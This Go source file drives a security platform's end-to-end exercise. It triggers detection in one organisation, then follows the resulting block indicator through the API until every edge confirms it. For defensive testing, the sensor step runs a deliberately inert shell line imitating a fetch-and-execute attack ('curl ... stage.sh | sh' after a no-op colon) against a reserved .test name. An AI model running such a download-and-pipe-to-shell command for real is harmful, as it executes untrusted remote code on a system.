// Package drill rehearses the whole line on a running platform: it does real,
// harmless things in one organisation that real rules detect, follows the
// signal along its hops, and checks with a query of its own that every other
// organisation is protected. A hop that does not happen is an error that names
// it. Everything runs in the exercise realm, under a name below
// drill.noroshi.test that nobody can own (RFC 6761). The command line calls it.
package drill

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"io"
	"net/url"
	"os/exec"
	"sort"
	"time"

	"noroshi/fault"
	"noroshi/ident"
	"noroshi/indicator"
)

// Suffix is the name below which every rehearsed name lies.
const Suffix = ".drill.noroshi.test"

// Caller asks the platform's API.
type Caller interface {
	Get(ctx context.Context, path string, out any) error
	Post(ctx context.Context, path string, in, out any) error
}

// Config says where and how.
type Config struct {
	Org     string        // slug of the organisation to be attacked; "" takes the first with a sensor
	Timeout time.Duration // for the whole run
	Keep    bool          // leave the block in place until it expires
	Out     io.Writer     // tells a person what happens; nil for silence
}

// Hops are the seven times of the clock, in milliseconds from the first: for
// the last three, of the slowest edge.
type Hops struct {
	Sensed       float64 `json:"sensed"`
	Found        float64 `json:"found"`
	Decided      float64 `json:"decided"`
	Durable      float64 `json:"durable"`
	Received     float64 `json:"received"`
	Enforced     float64 `json:"enforced"`
	Acknowledged float64 `json:"acknowledged"`
}

// Result is one run.
type Result struct {
	OK            bool     `json:"ok"`
	Name          string   `json:"name"`
	Indicator     ident.ID `json:"indicator,omitempty"`
	Hops          Hops     `json:"hops"`
	Organisations int      `json:"organisations"` // that confirmed the block, the attacked one included
	Edges         int      `json:"edges"`
	LiftedMS      float64  `json:"lifted_ms,omitempty"` // revocation, until the slowest edge confirmed it
	Error         string   `json:"error,omitempty"`
}

// node and delivery are what the drill reads of the API's answers.
type node struct {
	ID    ident.ID `json:"id"`
	Org   ident.ID `json:"org"`
	Name  string   `json:"name"`
	Role  string   `json:"role"`
	State string   `json:"state"`
	Addr  string   `json:"addr"`

	LastSeen time.Time `json:"last_seen"`
	Enrolled time.Time `json:"enrolled"`
}

// settling is how long a node that has joined is waited for that has not reported
// yet. One that stays away longer is not there.
const settling = 15 * time.Second

func (n node) settles() bool {
	return n.State == "away" && n.LastSeen.IsZero() && time.Since(n.Enrolled) < settling
}

type organisation struct {
	ID   ident.ID `json:"id"`
	Slug string   `json:"slug"`
	Name string   `json:"name"`
}

type delivery struct {
	Node  ident.ID `json:"node"`
	Org   ident.ID `json:"org"`
	Name  string   `json:"name"`
	State string   `json:"state"`
}

type detail struct {
	Indicator  indicator.Indicator `json:"indicator"`
	Deliveries []delivery          `json:"deliveries"`
}

type run struct {
	cfg   Config
	api   Caller
	orgs  map[ident.ID]organisation
	nodes []node
	from  organisation
	res   Result
}

// Run does one drill. The result says how far it came, also when the error is
// not nil.
func Run(ctx context.Context, cfg Config, api Caller) (Result, error) {
	if cfg.Out == nil {
		cfg.Out = io.Discard
	}
	ctx, cancel := context.WithTimeout(ctx, cfg.Timeout)
	defer cancel()
	var b [4]byte
	if _, err := rand.Read(b[:]); err != nil {
		return Result{}, fault.Wrap("drill.name", err)
	}
	r := &run{cfg: cfg, api: api, res: Result{Name: "signal-" + hex.EncodeToString(b[:]) + Suffix}}
	err := r.all(ctx)
	if err != nil {
		r.res.Error = fault.PublicOf(err)
	}
	r.res.OK = err == nil
	return r.res, err
}

func (r *run) all(ctx context.Context) error {
	if err := r.survey(ctx); err != nil {
		return err
	}
	if err := r.act(ctx); err != nil {
		return err
	}
	d, err := r.follow(ctx)
	if err != nil {
		return err
	}
	r.hops(d.Indicator.Clock)
	if err := r.prove(ctx, d, true); err != nil {
		return err
	}
	if r.cfg.Keep {
		return nil
	}
	return r.lift(ctx, d)
}

// survey learns who is there, waits until those that just joined have reported, and
// chooses the organisation that is attacked.
func (r *run) survey(ctx context.Context) error {
	var orgs struct{ Items []organisation }
	if err := r.api.Get(ctx, "/api/v1/organisations", &orgs); err != nil {
		return fault.Wrap("drill.organisations", err)
	}
	r.orgs = map[ident.ID]organisation{}
	for _, o := range orgs.Items {
		r.orgs[o.ID] = o
	}
	err := r.until(ctx, "a sensor or a resolver reports", func() (bool, error) {
		var nodes struct{ Items []node }
		if err := r.api.Get(ctx, "/api/v1/nodes", &nodes); err != nil {
			return false, err
		}
		r.nodes = r.nodes[:0]
		settled := true
		for _, n := range nodes.Items {
			if n.State == "active" {
				r.nodes = append(r.nodes, n)
			}
			settled = settled && !n.settles()
		}
		return r.choose() && settled, nil
	})
	if err != nil {
		return err
	}
	fmt.Fprintf(r.cfg.Out, "drill  %s\nattack in %s; %d nodes report\n", r.res.Name, r.from.Name, len(r.nodes))
	return nil
}

// choose picks the organisation: the one asked for, else one with a sensor,
// else one with a resolver.
func (r *run) choose() bool {
	sort.Slice(r.nodes, func(i, j int) bool { return r.nodes[i].ID < r.nodes[j].ID })
	for _, role := range []string{"sensor", "resolver"} {
		for _, n := range r.nodes {
			o := r.orgs[n.Org]
			if n.Role == role && (r.cfg.Org == "" || r.cfg.Org == o.Slug) {
				r.from = o
				return true
			}
		}
	}
	return false
}

// act does the harmless things: a command line in the way of a downloader that
// is piped into a shell (the colon makes the shell ignore it), and a look-up of
// the name through the organisation's resolver.
func (r *run) act(ctx context.Context) error {
	done := 0
	for _, n := range r.nodes {
		if n.Org != r.from.ID {
			continue
		}
		switch n.Role {
		case "sensor":
			cmd := exec.CommandContext(ctx, "/bin/sh", "-c", ": curl -fsS http://"+r.res.Name+"/stage.sh '|' sh")
			if err := cmd.Run(); err != nil {
				return fault.As(fault.Internal, "drill.act", err, "the drill's harmless command could not be run")
			}
			done++
		case "resolver":
			if _, err := ask(ctx, n.Addr, r.res.Name); err != nil {
				return fault.As(fault.Unavailable, "drill.act", err, "the resolver of %s at %s does not answer", r.from.Name, n.Addr)
			}
			done++
		}
	}
	if done == 0 {
		return fault.New(fault.Unavailable, "drill.act", "nothing in %s can sense the attack", r.from.Name)
	}
	return nil
}

// follow waits until the signal became an indicator and every edge confirmed it.
func (r *run) follow(ctx context.Context) (detail, error) {
	var list struct{ Items []indicator.Indicator }
	path := "/api/v1/indicators?realm=exercise&limit=5&q=" + url.QueryEscape(r.res.Name)
	err := r.until(ctx, "hop found or decided: a rule sees the attack and the policy makes it an indicator", func() (bool, error) {
		err := r.api.Get(ctx, path, &list)
		return err == nil && len(list.Items) > 0 && list.Items[0].State != indicator.Proposed, err
	})
	if err != nil {
		return detail{}, err
	}
	ind := list.Items[0]
	r.res.Indicator = ind.ID
	if ind.State != indicator.Active {
		return detail{}, fault.New(fault.Conflict, "drill.follow", "hop decided: the indicator is %s, not active; the gate says %v", ind.State, ind.GateReasons)
	}
	return r.confirmed(ctx, ind.ID, "hop acknowledged: every edge confirms the block")
}

// confirmed waits until every edge confirmed the newest state of the indicator.
func (r *run) confirmed(ctx context.Context, id ident.ID, what string) (detail, error) {
	var d detail
	err := r.until(ctx, what, func() (bool, error) {
		d = detail{}
		if err := r.api.Get(ctx, "/api/v1/indicators/"+string(id), &d); err != nil {
			return false, err
		}
		for _, e := range d.Deliveries {
			if e.State != "confirmed" {
				return false, nil
			}
		}
		return len(d.Deliveries) > 0, nil
	})
	if err != nil {
		for _, e := range d.Deliveries {
			if e.State != "confirmed" {
				fmt.Fprintf(r.cfg.Out, "  not confirmed: %s (%s)\n", e.Name, e.State)
			}
		}
	}
	return d, err
}

func (r *run) hops(c indicator.Clock) {
	ms := func(t time.Time) float64 {
		return float64(t.Sub(c.T0Sensed).Microseconds()) / 1000
	}
	r.res.Hops = Hops{0, ms(c.T1Found), ms(c.T2Decided), ms(c.T3Durable), ms(c.T4Received), ms(c.T5Enforced), ms(c.T6Acknowledged)}
	for _, h := range []struct {
		name string
		ms   float64
	}{{"sensed", 0}, {"found", r.res.Hops.Found}, {"decided", r.res.Hops.Decided}, {"durable", r.res.Hops.Durable},
		{"received", r.res.Hops.Received}, {"enforced", r.res.Hops.Enforced}, {"acknowledged", r.res.Hops.Acknowledged}} {
		fmt.Fprintf(r.cfg.Out, "  %-13s %8.1f ms\n", h.name, h.ms)
	}
}

// until asks again and again until ok; the deadline's error names what did not
// happen.
func (r *run) until(ctx context.Context, what string, ok func() (bool, error)) error {
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	var last error
	for {
		done, err := ok()
		if done && err == nil {
			return nil
		}
		if err != nil {
			last = err
		}
		select {
		case <-ctx.Done():
			return fault.As(fault.Unavailable, "drill.wait", last, "did not happen within %s: %s", r.cfg.Timeout, what)
		case <-tick.C:
		}
	}
}
